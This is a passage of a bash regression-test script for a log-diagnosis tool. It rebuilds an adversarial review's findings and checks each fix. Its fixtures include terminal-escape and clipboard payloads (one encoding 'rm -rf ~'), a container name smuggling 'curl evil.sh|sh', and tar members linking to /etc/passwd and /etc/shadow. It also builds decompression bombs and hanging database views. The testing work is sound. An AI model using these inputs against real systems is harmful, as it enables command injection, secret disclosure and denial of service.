#!/usr/bin/env bash
# Issue 36's "Done when": the outside adversarial test's 31 findings, each input rebuilt here (by
# this script, at run time: nothing is copied from the test's own folder) and run through the
# binary under the same bounds — peak RSS at most 256 MiB and at most 60 s each, measured per
# command (python3's RUSAGE_CHILDREN, the largest process of the command's tree) — with the
# outcome the fix promises asserted. One ctest per family of the findings:
#   injection (1-5), data_loss (6-12), hang (13-14), unbounded (15-23), crash (24),
#   wrong_message (25-31), and `untouched`: a crafted database, hostile archives, hostile names
#   and a hostile rules folder, every command run on them, and the input tree hashed before and
#   after (content, mode, mtime, link targets, file types) must be byte-identical.
# The finer tests of each fix (tests/unit, hostile.sh, tests/cli, tests/run) stay where they are;
# this one holds the bound and the outcome of each finding's own input.
#
# Usage: redteam.sh CULPRIT SOURCE_DIR GEN_TAR FAMILY        (exit 0 pass, 1 fail, 77 skip)
# Environment: CULPRIT_HOSTILE_NO_ULIMIT=1 (sanitizer builds): RSS and time are not held.
set -uo pipefail
export LC_ALL=C  # byte patterns (grep), byte order (sort)

BIN=$(realpath "$1") SRC=$(realpath "$2") GEN_TAR=$(realpath "$3") FAMILY=$4
command -v python3 >/dev/null || { echo "SKIP: python3 is needed to measure"; exit 77; }
T=$(mktemp -d "${TMPDIR:-/tmp}/culprit-redteam.XXXXXX")
cleanup() { chmod -R u+rwX "$T" 2>/dev/null; rm -rf "$T"; }
trap cleanup EXIT
SEED=$SRC/fixtures/incidents/two-node-stale-embeddings/inputs
WORKER=spark-b/sglang-worker.log
LIMIT_KB=262144 LIMIT_S=60
MEASURED=${CULPRIT_HOSTILE_NO_ULIMIT:-0}
esc=$'\033' bel=$'\007'
failures=0
N=?  # the finding being run

fail() { echo "FAIL [finding $N]: $*" >&2; failures=$((failures + 1)); }
ok() { echo "ok   [finding $N] $*"; }
seed() { mkdir -p "$1" && cp -r "$SEED/spark-a" "$SEED/spark-b" "$1/"; }

cat >"$T/measure.py" <<'PY'
# measure.py PREFIX STDIN LIMIT_S CMD...: runs CMD (stdin from STDIN, stdout PREFIX.out, stderr
# PREFIX.err) and prints its exit status, the peak RSS of its largest process (KiB) and seconds.
import resource, subprocess, sys, time
prefix, stdin, limit = sys.argv[1], sys.argv[2], float(sys.argv[3])
start = time.monotonic()
with open(stdin, "rb") as i, open(prefix + ".out", "wb") as o, open(prefix + ".err", "wb") as e:
    p = subprocess.Popen(sys.argv[4:], stdin=i, stdout=o, stderr=e, start_new_session=True)
    try:
        rc = p.wait(timeout=limit + 30)
    except subprocess.TimeoutExpired:
        import os, signal
        os.killpg(p.pid, signal.SIGKILL)
        p.wait()
        rc = 124
print(rc, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, "%.2f" % (time.monotonic() - start))
PY

# `measure NAME [<STDIN] CMD...`: runs CMD under the bounds; RC, OUT ($T/NAME.out) and ERR set.
measure() {
  local name=$1 input=/dev/null
  shift
  case $1 in "<"*) input=${1#<}; shift ;; esac
  local kb secs
  read -r RC kb secs < <(python3 "$T/measure.py" "$T/$name" "$input" "$LIMIT_S" "$@")
  OUT=$T/$name.out ERR=$T/$name.err
  if [ "$MEASURED" = 1 ]; then return; fi
  [ "${kb:-0}" -le "$LIMIT_KB" ] || fail "$name: peak RSS $((kb / 1024)) MiB (bound 256 MiB): $*"
  python3 -c "import sys; sys.exit(0 if float(sys.argv[1]) <= $LIMIT_S else 1)" "${secs:-999}" ||
    fail "$name: ${secs}s (bound ${LIMIT_S}s): $*"
  echo "     $name: exit $RC, $((kb / 1024)) MiB, ${secs}s"
}
want_rc() { [ "$RC" -eq "$1" ] && return 0; fail "$2: exit $RC, wanted $1 ($(head -c 300 "$ERR"))"; return 1; }
has() { grep -qF -- "$2" "$1" || { fail "$3: no '$2' in $(basename "$1")"; return 1; }; }
lacks() { ! grep -qF -- "$2" "$1" || { fail "$3: '$2' in $(basename "$1")"; return 1; }; }
no_escape() { ! grep -q "[$esc$bel]" "$1" || { fail "$2: an ESC or BEL reached $(basename "$1")"; return 1; }; }

# Hostile names: a title-setting OSC with a screen clear, OSC 52 (the clipboard), a newline that
# forges a diagnostic line (finding 1).
hostile_names() {
  mkdir -p "$1"
  head -c 4096 /dev/urandom >"$1/bin${esc}]0;PWNED-TITLE${bel}${esc}[2J.log"
  : >"$1/empty${esc}]52;c;cm0gLXJmIH4K${bel}.log"
  : >"$1/nl"$'\n'"fake: error[input-x]: forged"$'\n'".log"
  printf 'RuntimeError: CUDA error: out of memory %s]0;MSG%s%s[2J\n' "$esc" "$bel" "$esc" >"$1/train.log"
}

# A timeline of the seed whose stored values hold escape sequences, as a received file would.
crafted_values_db() {
  seed "$T/cv-in"
  "$BIN" --db "$1" "$T/cv-in" >/dev/null 2>&1
  python3 - "$1" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
bad = "\x1b]0;T\x07\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J"
c.execute("UPDATE events SET message = message || ?, comm = ?", (bad, "comm" + bad))
c.execute("UPDATE sources SET name = name || ?", (bad,))
c.commit()
PY
}

# A timeline whose `events` table is an endless recursive view (findings 13, 14).
crafted_view_db() {
  seed "$T/view-in"
  "$BIN" --db "$1" "$T/view-in" >/dev/null 2>&1
  python3 - "$1" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.executescript("DROP VIEW IF EXISTS event_lines; DROP TABLE events; CREATE VIEW events AS WITH RECURSIVE "
                "r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT 0 AS incident, n AS id FROM r;")
c.commit()
PY
}

# An application's database (user_version 3), and a WAL database with a pending -wal (7, 8).
foreign_dbs() {
  python3 - "$1" <<'PY'
import os, sqlite3, sys
d = sys.argv[1]
c = sqlite3.connect(d + "/app.db")
c.executescript("PRAGMA user_version = 3; CREATE TABLE precious(x); INSERT INTO precious VALUES ('keep me');")
c.commit(); c.close()
if os.fork() == 0:  # the writer dies before a checkpoint: the -wal stays
    c = sqlite3.connect(d + "/wal.db", isolation_level=None)
    c.execute("PRAGMA journal_mode=WAL"); c.execute("PRAGMA user_version = 3")
    c.execute("CREATE TABLE t(x)"); c.execute("INSERT INTO t VALUES (1)")
    os._exit(0)
os.wait()
PY
}

# A tar whose members are a symbolic link to /etc/passwd, a hard link to /etc/shadow, a character
# device, a FIFO, `../` and absolute names, and names holding escape sequences (1, 25).
hostile_tar() {
  python3 - "$1" <<'PY'
import io, sys, tarfile
def add(t, name, kind=tarfile.REGTYPE, data=b"", link=""):
    i = tarfile.TarInfo(name); i.type = kind; i.linkname = link; i.size = len(data)
    t.addfile(i, io.BytesIO(data) if data else None)
with tarfile.open(sys.argv[1], "w", format=tarfile.GNU_FORMAT) as t:
    add(t, "node1/train.log", data=b"RuntimeError: CUDA error: out of memory\n")
    add(t, "node1/passwd.log", tarfile.SYMTYPE, link="/etc/passwd")
    add(t, "node1/shadow.log", tarfile.LNKTYPE, link="/etc/shadow")
    add(t, "node1/dev", tarfile.CHRTYPE)
    add(t, "node1/fifo", tarfile.FIFOTYPE)
    add(t, "../../escape.log", data=b"INFO outside\n")
    add(t, "/abs/escape.log", data=b"INFO absolute\n")
    add(t, "bin\x1b]0;PWNED\x07\x1b[2J.log", data=bytes(range(256)) * 16)
    add(t, "nl\nfake: error[input-x]: forged\n.log", data=b"")
PY
}

# An .xz of log text whose block header declares a 4 GiB dictionary (finding 15): compressed with
# a small dictionary, then the header's dictionary byte and its CRC32 rewritten.
bigdict_xz() {
  python3 - "$1" <<'PY'
import lzma, struct, sys, zlib
text = b"".join(b"2026-04-09 00:47:%02d INFO step %d loss 2.31\n" % (i % 60, i) for i in range(600000))
data = bytearray(lzma.compress(text, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32,
                               filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]))
size = (data[12] + 1) * 4  # the block header after the 12-byte stream header
assert data[14] == 0x21 and data[15] == 1, "one LZMA2 filter"
data[16] = 40  # 4 GiB - 1
data[12 + size - 4:12 + size] = struct.pack("<I", zlib.crc32(bytes(data[12:12 + size - 4])))
open(sys.argv[1], "wb").write(bytes(data))
PY
}

# A rules folder: a FIFO named *.toml, a 300 MB rule file (sparse), and a [[diagnosis]] returning
# 2·10^7 rows of 200-byte hosts (19, 20, 29).
hostile_rules() {
  mkdir -p "$1"
  mkfifo "$1/fifo.toml"
  truncate -s 300M "$1/huge.toml"
  cat >"$1/rows.toml" <<'TOML'
[[diagnosis]]
id = "many-rows"
verdict = "cuda_oom"
title = "rows"
priority = 10
query = """
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r LIMIT 20000000)
SELECT n AS event_id, printf('%0200d', n) AS host, NULL AS ts, 'low' AS confidence FROM r
"""
message = "x {host}"
TOML
}

# --- injection ----------------------------------------------------------------------------------

finding_1() {  # stderr names files and archive members raw
  hostile_names "$T/f1"
  measure f1 "$BIN" "$T/f1"
  no_escape "$ERR" "a folder's hostile names on stderr"
  ! grep -q '^fake: error' "$ERR" || fail "a newline in a name forged a diagnostic line"
  has "$ERR" 'bin\x1b]0;PWNED-TITLE\x07\x1b[2J.log' "the name shown escaped"
  hostile_tar "$T/f1.tar"
  measure f1tar "$BIN" "$T/f1.tar"
  no_escape "$ERR" "an archive's hostile member names on stderr"
  ! grep -q '^fake: error' "$ERR" || fail "a newline in a member name forged a diagnostic line"
  ok "names on stderr are shown escaped, one line each"
}

finding_2() {  # the scan table and its Markdown print folder names raw
  mkdir -p "$T/f2/inc${esc}]0;SCANPWN${bel}${esc}[2J" "$T/f2/a|b<img src=x onerror=alert(1)>![i](https:x)"
  for d in "$T"/f2/*; do printf 'RuntimeError: CUDA error: out of memory\n' >"$d/train.log"; done
  measure f2 "$BIN" scan "$T/f2"
  no_escape "$OUT" "the scan table"
  measure f2md "$BIN" scan --format markdown "$T/f2"
  no_escape "$OUT" "the scan Markdown"
  ! grep -q '[^\\]<img\|[^\\]!\[i\]' "$OUT" || fail "the scan Markdown lets a tag or an image through"
  ok "scan's table and Markdown show folder names escaped"
}

finding_3() {  # query (TSV, CSV) and timeline --csv print stored values raw; a blob as bytes
  crafted_values_db "$T/f3.db"
  measure f3q "$BIN" query "$T/f3.db" "select message, comm from events"
  want_rc 0 "query"
  no_escape "$OUT" "query's table of a received timeline"
  local rows
  rows=$("$BIN" query --json "$T/f3.db" "select count(*) as n from events" | tr -dc '0-9')
  [ "$(wc -l <"$OUT")" -eq $((rows + 1)) ] || fail "a stored newline broke a row of query's table"
  measure f3csv "$BIN" query --csv "$T/f3.db" "select name from sources"
  no_escape "$OUT" "query --csv"
  measure f3t "$BIN" timeline --db "$T/f3.db" --csv --all
  want_rc 0 "timeline --csv"
  no_escape "$OUT" "timeline --csv"
  measure f3b "$BIN" query "$T/f3.db" "select fts3_tokenizer('simple') as p, x'1bff00' as b"
  if [ "$RC" -eq 0 ]; then
    no_escape "$OUT" "a blob"
    grep -q "^x'[0-9a-f]*'	x'1bff00'\$" "$OUT" || fail "blobs are not shown as hex: $(cat -v "$OUT")"
  fi
  ok "stored values and blobs reach no terminal raw"
}

finding_4() {  # advice turned a container name into a copy-paste shell command
  seed "$T/f4"
  sed -i 's/vllm-embeddings$/vllm;curl${IFS}evil.sh|sh;#/' "$T/f4/spark-b/docker-ps.txt"
  for f in text markdown html; do
    measure "f4$f" "$BIN" -f "$f" "$T/f4"
    want_rc 0 "-f $f"
    lacks "$OUT" 'docker stop vllm;curl' "-f $f"
  done
  has "$T/f4text.out" "kill 48211" "the advice names the pid instead"
  ok "no command from a container name outside Docker's grammar"
}

finding_5() {  # bidi overrides, zero-width characters and C1 controls reach the reports
  seed "$T/f5"
  python3 - "$T/f5" <<'PY'
import sys
d = sys.argv[1]
p = d + "/spark-b/nvidia-smi.txt"
s = open(p, encoding="utf-8").read()
open(p, "w", encoding="utf-8").write(s.replace("VLLM::EngineCore", "E\u202eCore\u200b<b>x</b>"))
p = d + "/spark-b/sglang-worker.log"
lines = open(p, encoding="utf-8").read().split("\n")
lines = [l + " \u202e\u2066x\u2069\u200b\u009b2J" if "OutOfMemoryError" in l else l for l in lines]
open(p, "w", encoding="utf-8").write("\n".join(lines))
PY
  for f in text markdown html json; do
    measure "f5$f" "$BIN" -f "$f" "$T/f5"
    want_rc 0 "-f $f"
    ! grep -q $'\xe2\x80\xae\|\xe2\x81\xa6\|\xe2\x80\x8b' "$OUT" ||
      fail "-f $f keeps a bidi override or a zero-width character"
    ! grep -q $'\xc2\x9b' "$OUT" || fail "-f $f keeps a raw C1 control (U+009B)"
  done
  has "$T/f5text.out" "<U+202E>" "the override is shown visibly"
  ok "bidi, zero-width and C1 characters are shown, never acted on"
}

# --- data loss ----------------------------------------------------------------------------------

finding_6() {  # -o onto an input replaced the log with the report
  seed "$T/f6"
  sha256sum "$T/f6/$WORKER" >"$T/f6.sums"
  measure f6 "$BIN" -o "$T/f6/$WORKER" "$T/f6/$WORKER"
  want_rc 2 "-o onto the input"
  measure f6dir "$BIN" -o "$T/f6/$WORKER" "$T/f6"
  want_rc 2 "-o onto a file of the input folder"
  sha256sum -c --quiet "$T/f6.sums" || fail "the input was replaced"
  ok "-o never replaces an input"
}

finding_7() {  # any SQLite file with user_version 3 was replaced by --db
  mkdir -p "$T/f7" && foreign_dbs "$T/f7" && seed "$T/f7/in"
  sha256sum "$T/f7/app.db" >"$T/f7.sums"
  measure f7 "$BIN" --db "$T/f7/app.db" "$T/f7/in"
  want_rc 2 "--db onto another application's database"
  has "$ERR" "not a culprit timeline of this version (no culprit application_id)" "the refusal"
  sha256sum -c --quiet "$T/f7.sums" || fail "the application's database was changed"
  ok "a database is culprit's only with its application id"
}

finding_8() {  # a refused database, and those only read, were changed (WAL merged, journal mode)
  mkdir -p "$T/f8" && foreign_dbs "$T/f8" && seed "$T/f8/in"
  [ -e "$T/f8/wal.db-wal" ] || { echo "     (no pending -wal could be made: part skipped)"; return; }
  (cd "$T/f8" && sha256sum app.db wal.db wal.db-wal >sums && ls >ls.before)
  measure f8db "$BIN" --db "$T/f8/wal.db" "$T/f8/in"
  want_rc 2 "--db onto a WAL database"
  measure f8t "$BIN" timeline --db "$T/f8/wal.db"
  want_rc 2 "timeline --db of a WAL database"
  measure f8q "$BIN" query "$T/f8/wal.db" "select 1"
  want_rc 2 "query of a WAL database"
  measure f8m "$BIN" merge --db "$T/f8-merged.db" "$T/f8/wal.db"
  (cd "$T/f8" && sha256sum -c --quiet sums) || fail "a database culprit refused or read was changed"
  (cd "$T/f8" && ls | grep -v '^ls\.' | diff - <(grep -v '^ls\.' ls.before)) >&2 || fail "files appeared or went"
  ok "databases culprit reads or refuses are left as they were, -wal included"
}

finding_9() {  # -o widened a private file's mode, and replaced a symbolic link
  seed "$T/f9"
  echo old >"$T/f9-priv.txt" && chmod 600 "$T/f9-priv.txt"
  measure f9 "$BIN" -o "$T/f9-priv.txt" "$T/f9"
  want_rc 0 "-o over a private file"
  [ "$(stat -c %a "$T/f9-priv.txt")" = 600 ] || fail "-o made a 0600 file $(stat -c %a "$T/f9-priv.txt")"
  echo old >"$T/f9-real.txt" && ln -s f9-real.txt "$T/f9-link.txt"
  measure f9l "$BIN" -o "$T/f9-link.txt" "$T/f9"
  [ -L "$T/f9-link.txt" ] || fail "the symbolic link was replaced"
  has "$T/f9-real.txt" "CUDA" "the report is written through the link"
  ok "-o keeps the mode and writes through a link"
}

finding_10() {  # run wrote API keys into world-readable snapshot files
  mkdir -p "$T/f10" && cd "$T/f10" || return
  VLLM_API_KEY=sk-VLLMSECRET789 SGLANG_API_KEY=sk-SGLSECRET000 \
    measure f10 "$BIN" run -o inc --sample-interval 1 -- sh -c 'sleep 1.2; echo failing >&2; exit 1' \
    --api-key=sk-CMDLINESECRET222 --token sk-TOKENSECRET444
  cd "$T" || return
  want_rc 1 "the job's exit"
  ! grep -rq SECRET "$T/f10/inc" || fail "a secret was written: $(grep -rl SECRET "$T/f10/inc")"
  [ -z "$(find "$T/f10/inc" -type f ! -perm 600)" ] || fail "a snapshot file is not 0600"
  [ -z "$(find "$T/f10/inc" -type d ! -perm 700)" ] || fail "an incident folder is not 0700"
  ok "no secret written; files 0600 in 0700 folders"
}

finding_11() {  # a link out of the input folder was followed silently
  seed "$T/f11/logs" && mkdir -p "$T/f11/secret"
  echo "RuntimeError: CUDA error: an illegal memory access SUPERSECRET2" >"$T/f11/secret/credentials"
  ln -s ../secret/credentials "$T/f11/logs/debug.log"
  measure f11 "$BIN" --format json "$T/f11/logs"
  has "$ERR" "warning[input-link]: a symbolic link out of the input folder" "the link is named"
  lacks "$OUT" SUPERSECRET2 "the linked file outside"
  ok "a link out of the folder is named, not followed"
}

finding_12() {  # run on a full disk left empty files and said nothing
  [ -w /dev/full ] || { echo "     (no writable /dev/full: skipped)"; return; }
  mkdir -p "$T/f12" && cd "$T/f12" || return
  local host
  host=$(uname -n | cut -d. -f1)
  measure f12 "$BIN" run -o inc -- sh -c "ln -s /dev/full inc/$host/meminfo.txt; echo failing >&2; exit 1"
  cd "$T" || return
  want_rc 1 "the job's exit"
  has "$ERR" "cannot write inc/$host/meminfo.txt: No space left on device" "the full disk"
  ok "a full disk is said with the file it hit"
}

# --- hangs --------------------------------------------------------------------------------------

finding_13() {  # merge --db on a crafted shard ran forever, its temp file left behind
  crafted_view_db "$T/f13.db"
  measure f13 "$BIN" merge --db "$T/f13-merged.db" "$T/f13.db"
  want_rc 2 "merge of a crafted shard"
  [ ! -e "$T/f13-merged.db" ] && [ ! -e "$T/f13-merged.db.tmp" ] || fail "merge left a file"
  ok "merge refuses the crafted shard at once"
}

finding_14() {  # timeline --db and query hang on a crafted timeline; timeline's memory grows
  crafted_view_db "$T/f14.db"
  measure f14t "$BIN" timeline --db "$T/f14.db" --incident 1
  want_rc 2 "timeline --db of a crafted timeline"
  measure f14q "$BIN" query "$T/f14.db" "select count(*) from events"
  want_rc 2 "query of a crafted timeline"
  # A real timeline of 300 000 events, all asked for (--limit 0): the loader holds its row cap.
  seed "$T/f14in"
  "$BIN" --db "$T/f14big.db" "$T/f14in" >/dev/null 2>&1
  python3 - "$T/f14big.db" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.execute("INSERT INTO events(source_id, line, line_end, ts, ts_raw, ts_kind, host, comm, kind, severity, rule, "
          "message, fields) WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r LIMIT 300000) "
          "SELECT 1, 1000 + n, 1000 + n, 1775695629 + n, '', 'wall', 'spark-b', '', 'peer_lost', 'error', 'x', "
          "printf('peer %d lost %0300d', n, n), '{}' FROM r")
c.commit()
PY
  measure f14all "$BIN" timeline --db "$T/f14big.db" --all --limit 0 --csv
  want_rc 0 "timeline --limit 0 of 300 000 events"
  has "$ERR" "100000 of the" "the note that not every event is shown"
  ok "crafted timelines are refused at once; a long one is capped"
}

# --- unbounded resources ------------------------------------------------------------------------

finding_15() {  # an .xz declaring a 4 GiB dictionary cost ~1 GiB per file and per job
  bigdict_xz "$T/f15.log.xz"
  measure f15 "$BIN" "$T/f15.log.xz"
  has "$ERR" "an xz stream whose dictionary is 4.0 GiB" "the refusal"
  mkdir -p "$T/f15scan" && for n in a b c; do mkdir "$T/f15scan/$n" && cp "$T/f15.log.xz" "$T/f15scan/$n/"; done
  measure f15scan "$BIN" scan --jobs 3 "$T/f15scan"
  ok "the dictionary is refused from its header"
}

finding_16() {  # memory grew with the number of archive members (a million: 1.2 GB)
  "$GEN_TAR" 200000 | gzip -1 >"$T/f16.tar.gz"
  measure f16 "$BIN" "$T/f16.tar.gz"
  has "$ERR" "more than 100000 files in the archive; the rest are not read" "the member cap"
  ok "an archive's members are capped"
}

finding_17() {  # binary data on stdin was buffered to 1 GiB before it was called binary
  measure f17z "</dev/zero" "$BIN" -
  has "$ERR" "only NUL bytes" "the verdict on /dev/zero"
  measure f17r "</dev/urandom" "$BIN" -
  has "$ERR" "binary data" "the verdict on /dev/urandom"
  ok "a stream is judged on its head"
}

finding_18() {  # query held its whole result (30 M rows: 11 GB)
  seed "$T/f18in"
  "$BIN" --db "$T/f18.db" "$T/f18in" >/dev/null 2>&1
  measure f18 "$BIN" query "$T/f18.db" \
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r LIMIT 1500000) SELECT n, printf('%050d', n) FROM r"
  want_rc 0 "query of 1.5 M rows"
  [ "$(wc -l <"$OUT")" -eq 1500001 ] || fail "not every row printed"
  ok "query streams its rows"
}

finding_19() {  # a --rules diagnosis returning many rows: 5.2 GB within its time budget
  hostile_rules "$T/f19rules" && rm "$T/f19rules/fifo.toml" "$T/f19rules/huge.toml"
  seed "$T/f19"
  measure f19 "$BIN" --rules "$T/f19rules" "$T/f19"
  has "$ERR" "stopped after 100000 rows, its row limit" "the row cap"
  ok "a diagnosis query stops at its row cap"
}

finding_20() {  # a 300 MB rule file was parsed whole (1.5 GB)
  mkdir -p "$T/f20" && truncate -s 300M "$T/f20/huge.toml" && seed "$T/f20in"
  measure f20 "$BIN" --rules "$T/f20" "$T/f20in"
  has "$ERR" "error[rule-too-large]" "the size refusal"
  ok "a rule file over its size is not read"
}

finding_21() {  # merge of a JSON Lines file with one 2 GB line: 4.2 GB
  truncate -s 2G "$T/f21.jsonl"
  measure f21 "$BIN" merge "$T/f21.jsonl"
  want_rc 2 "merge of a 2 GB line"
  has "$ERR" "not a \`culprit scan --jsonl\` line" "the refusal"
  { printf '{"incident":"'; head -c 80000000 /dev/zero | tr '\0' a; printf '"}\n'; } >"$T/f21long.jsonl"
  measure f21long "$BIN" merge "$T/f21long.jsonl"
  has "$ERR" "a line over 64 MiB" "the line cap"
  ok "merge judges a line on its head and caps it"
}

finding_22() {  # collect --ssh held every host's flood at once (12 hosts: 2.6 GB)
  mkdir -p "$T/f22/bin"
  cat >"$T/f22/bin/ssh" <<'SH'
#!/bin/sh
cat >/dev/null
printf '@@culprit 0 0 3 0\nok\n'
cat /dev/zero | tr '\0' A &
exec cat /dev/zero >&2
SH
  chmod +x "$T/f22/bin/ssh"
  local hosts="" i
  for i in $(seq 12); do hosts="$hosts --ssh n$i"; done
  cd "$T/f22" || return
  # shellcheck disable=SC2086
  PATH="$T/f22/bin:$PATH" measure f22 "$BIN" collect -o inc --timeout 5 $hosts
  cd "$T" || return
  ok "12 flooding hosts stay within their caps"
}

finding_23() {  # run recorded a job's output with no cap
  mkdir -p "$T/f23" && cd "$T/f23" || return
  measure f23 "$BIN" run -o inc -- sh -c 'yes "step 1 loss 2.31 a line of a busy job" | head -c 180000000; exit 1'
  cd "$T" || return
  want_rc 1 "the job's exit"
  local rec
  rec=$(find "$T/f23/inc" -name job.stdout.log)
  [ -n "$rec" ] || { fail "no record of the job's output"; return; }
  [ "$(stat -c %s "$rec")" -lt 150000000 ] || fail "the record is $(stat -c %s "$rec") bytes"
  has "$rec" "not recorded here" "the record's note"
  ok "the record keeps its head and tail"
}

# --- crash --------------------------------------------------------------------------------------

finding_24() {  # SIGUSR1 (Slurm's pre-timeout warning) killed culprit run, and the job with it
  mkdir -p "$T/f24" && cd "$T/f24" || return
  cat >job.sh <<'SH'
trap 'echo got USR1' USR1; trap 'echo got USR2' USR2; trap 'echo got ALRM' ALRM
for i in 1 2 3 4 5 6; do echo "tick $i"; sleep 0.5; done
exit 1
SH
  cat >send.sh <<'SH'
"$1" run -o inc --sample-interval 1 -- sh job.sh &
p=$!
sleep 1.2; kill -USR1 $p; sleep 0.3; kill -USR2 $p; sleep 0.3; kill -ALRM $p
wait $p
SH
  measure f24 sh send.sh "$BIN"
  cd "$T" || return
  want_rc 1 "culprit run through USR1, USR2 and ALRM"
  has "$OUT" "tick 6" "the job ran to its end"
  has "$OUT" "got USR1" "USR1 forwarded to the job"
  [ -n "$(find "$T/f24/inc" -name culprit-snapshot.json)" ] || fail "no snapshot"
  ok "signals a scheduler sends are forwarded, never fatal"
}

# --- wrong messages -----------------------------------------------------------------------------

finding_25() {  # archive links, devices and FIFOs were dropped unsaid
  hostile_tar "$T/f25.tar"
  measure f25 "$BIN" --format json "$T/f25.tar"
  has "$ERR" "a symbolic link to '/etc/passwd' in the archive; not followed" "the symlink member"
  has "$OUT" "node1/shadow.log" "the hard link member among the skipped"
  has "$OUT" "node1/fifo" "the FIFO member among the skipped"
  ok "links, devices and FIFOs in an archive are named"
}

finding_26() {  # a truncated .log.gz whose readable part holds the decisive line
  seed "$T/f26"
  { cat "$SEED/$WORKER"; head -c 300000 /dev/urandom | base64 -w 100 | sed 's/^/INFO 04-09 00:48:00 /'; } |
    gzip -9 >"$T/f26.gz"
  head -c $(($(stat -c %s "$T/f26.gz") / 2)) "$T/f26.gz" >"$T/f26/spark-b/sglang-worker.log.gz"
  rm "$T/f26/$WORKER"
  measure f26 "$BIN" --format json "$T/f26"
  want_rc 0 "a truncated .log.gz"
  has "$OUT" '"verdict":"cuda_oom"' "the decisive line read"
  ok "a truncated gzip is read up to the damage"
}

finding_27() {  # input-repeat notes cited line numbers of the internal piece
  measure f27 sh -c 'yes "INFO 04-09 00:47:06 worker heartbeat ok" | head -n 1500000 | "$1" -' sh "$BIN"
  local note
  note=$(grep -m1 'note\[input-repeat\]' "$ERR")
  if [ -n "$note" ]; then
    # <stdin>:N: note[input-repeat]: lines A-B repeat lines C-D: N lies in A-B.
    python3 - "$note" <<'PY' || fail "the repeat note's ranges are not the input's lines: $note"
import re, sys
m = re.match(r"<stdin>:(\d+): note\[input-repeat\]: lines (\d+)-(\d+) repeat lines (\d+)-(\d+)", sys.argv[1])
assert m, sys.argv[1]
n, a, b = int(m[1]), int(m[2]), int(m[3])
assert a <= n <= b and b <= 1500000, (n, a, b)
PY
  fi
  lacks "$ERR" "grew while read" "a stream"
  ok "repeat notes cite the input's own lines"
}

finding_28() {  # UTF-32 with a byte-order mark was called UTF-16LE
  mkdir -p "$T/f28"
  { printf '\xff\xfe\x00\x00'; iconv -f UTF-8 -t UTF-32LE "$SEED/$WORKER"; } >"$T/f28/worker.log"
  measure f28 "$BIN" --format json "$T/f28"
  want_rc 0 "UTF-32LE"
  has "$ERR" "UTF-32LE" "the encoding named"
  lacks "$ERR" "UTF-16LE" "the encoding"
  lacks "$ERR" "NUL bytes ignored" "the NUL note"
  ok "UTF-32 is decoded and named"
}

finding_29() {  # a FIFO *.toml in a rules folder was ignored
  mkdir -p "$T/f29" && mkfifo "$T/f29/fifo.toml"
  measure f29 "$BIN" rules check "$T/f29"
  want_rc 2 "rules check of a FIFO"
  has "$ERR" "error[rule-not-a-file]" "the FIFO named"
  ok "a FIFO rule file is named, never opened"
}

finding_30() {  # scan never said what it skipped
  mkdir -p "$T/f30/only-binary" "$T/f30/binary-and-empty"
  head -c 4096 /dev/urandom >"$T/f30/only-binary/a.log"
  head -c 4096 /dev/urandom >"$T/f30/binary-and-empty/b.log"
  : >"$T/f30/binary-and-empty/c.log"
  measure f30 "$BIN" scan "$T/f30"
  has "$ERR" "a.log: warning[input-binary]" "the skipped binary input"
  has "$ERR" "c.log: warning[input-empty]" "the skipped empty input"
  measure f30md "$BIN" scan --format markdown "$T/f30"
  has "$ERR" "warning[input-binary]" "scan Markdown's skipped inputs"
  ok "scan says what it skipped"
}

finding_31() {  # Markdown code spans showed \| and lost double backticks
  seed "$T/f31"
  sed -i 's/vllm-embeddings$/a``b|c/' "$T/f31/spark-b/docker-ps.txt"
  measure f31 "$BIN" -f markdown "$T/f31"
  want_rc 0 "Markdown"
  lacks "$OUT" 'b\|c`' "a code span"
  grep -q '```* *a``b|c *```*' "$OUT" || fail "the name a\`\`b|c is not one code span: $(grep -m2 'a``b' "$OUT")"
  ok "code spans keep the name as it is"
}

# --- untouched: every input byte-identical -------------------------------------------------------

fingerprint() {  # every entry under $1: type, mode, size, mtime, link target, content hash
  (cd "$1" && find . -printf '%y %m %s %T@ %p -> %l\n' | LC_ALL=C sort &&
    find . -type f -print0 | LC_ALL=C sort -z | xargs -0 sha256sum)
}

untouched() {
  N=untouched
  local tree=$T/tree
  mkdir -p "$tree/db" "$tree/archives" "$tree/rules" "$T/o"
  seed "$tree/incident"
  crafted_view_db "$tree/db/view.db"
  crafted_values_db "$tree/db/values.db"
  foreign_dbs "$tree/db"
  hostile_tar "$tree/archives/hostile.tar"
  bigdict_xz "$tree/archives/bigdict.log.xz"
  gzip -c "$SEED/$WORKER" | head -c 1500 >"$tree/archives/truncated.log.gz"
  hostile_names "$tree/names"
  ln -s ../incident/$WORKER "$tree/names/inside.log"
  ln -s /etc/hostname "$tree/names/outside.log"
  hostile_rules "$tree/rules"
  fingerprint "$tree" >"$T/before"
  for db in view values app wal; do
    measure "u-q-$db" "$BIN" query "$tree/db/$db.db" "select count(*) from events"
    measure "u-t-$db" "$BIN" timeline --db "$tree/db/$db.db" --all --limit 0
    measure "u-m-$db" "$BIN" merge --db "$T/o/merged-$db.db" "$tree/db/$db.db"
  done
  for db in view app wal; do  # refused as --db targets (values.db is culprit's: --db may replace it)
    measure "u-d-$db" "$BIN" --db "$tree/db/$db.db" "$tree/incident"
  done
  measure u-arc "$BIN" --db "$T/o/arc.db" -o "$T/o/arc.json" "$tree/archives"
  measure u-names "$BIN" --db "$T/o/names.db" -o "$T/o/names.txt" "$tree/names"
  measure u-onto "$BIN" -o "$tree/names/train.log" "$tree/names"
  measure u-scan "$BIN" scan --db "$T/o/scan.db" "$tree"
  measure u-rules "$BIN" --rules "$tree/rules" "$tree/incident"
  measure u-check "$BIN" rules check "$tree/rules"
  measure u-timeline "$BIN" timeline --all "$tree/names" "$tree/archives"
  fingerprint "$tree" >"$T/after"
  if diff "$T/before" "$T/after" >&2; then ok "every input byte-identical (content, mode, mtime, links)"
